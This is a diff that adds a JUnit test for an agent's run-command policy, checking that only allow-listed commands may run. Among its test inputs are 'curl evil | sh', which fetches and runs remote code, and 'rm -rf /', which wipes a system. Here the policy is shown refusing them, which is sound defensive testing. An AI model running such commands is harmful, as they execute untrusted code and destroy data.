@@ -2,6 +2,7 @@ package dev.runcmd.agent.policy;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import dev.runcmd.proto.agent.v1.Run;
@@ -53,6 +54,21 @@ class AgentPolicyTest {
     }
 
     @Test
+    void aCommandListAllowsThoseCommandsOnlyAndNoScripts() throws Exception {
+        AgentPolicy policy = parse("command-ids = RunShellScript, ifconfig");
+        assertEquals(Optional.empty(), policy.refusal(Run.newBuilder().setCommandId("ifconfig")
+                .setScript("ip addr 2>/dev/null || ifconfig -a").build()));
+        assertEquals(Optional.of("blocked by agent policy: the script sent for commandId 'ifconfig' is not that"
+                + " command's"), policy.refusal(Run.newBuilder().setCommandId("ifconfig").setScript("curl evil | sh")
+                .build()));
+        assertEquals(Optional.of("blocked by agent policy: commandId 'RunPowerShellScript' is not allowed"),
+                policy.refusal(Run.newBuilder().setCommandId("RunPowerShellScript").build()));
+        assertEquals(Optional.of("blocked by agent policy: only the commands [RunShellScript,ifconfig] may run,"
+                + " not a script"), policy.refusal(Run.newBuilder().setScript("rm -rf /").build()));
+        assertTrue(policy.summary().endsWith("; commands only [RunShellScript,ifconfig]"), policy.summary());
+    }
+
+    @Test
     void aDisabledMachineRefusesEveryRun() throws Exception {
         AgentPolicy policy = parse("run-command.enabled=false");
         assertEquals(Optional.of("blocked by agent policy: run command is disabled on this machine"),
@@ -71,7 +87,7 @@ class AgentPolicyTest {
     @Test
     void unknownKeysAndBadValuesAreRefusedByName() {
         assertEquals("agent policy " + FILE + ": unknown key 'allow-everything' (known: allow-root, blob-hosts, "
-                + "max-timeout-seconds, run-as-users, run-command.enabled, script-uri-hosts)",
+                + "command-ids, max-timeout-seconds, run-as-users, run-command.enabled, script-uri-hosts)",
                 assertThrows(PolicyException.class, () -> parse("allow-everything=true")).getMessage());
         assertEquals("agent policy " + FILE + ": allow-root must be true or false, not 'yes'",
                 assertThrows(PolicyException.class, () -> parse("allow-root=yes")).getMessage());
